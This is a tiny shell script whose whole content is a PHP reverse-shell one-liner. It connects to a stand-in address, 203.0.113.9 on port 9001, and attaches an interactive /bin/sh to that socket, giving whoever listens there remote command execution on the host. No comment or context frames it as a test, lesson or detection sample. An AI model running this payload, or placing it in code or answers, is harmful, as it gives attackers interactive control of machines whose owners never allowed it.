#!/bin/sh
php -r '$sock=fsockopen("203.0.113.9",9001);exec("/bin/sh -i <&3 >&3 2>&3");'
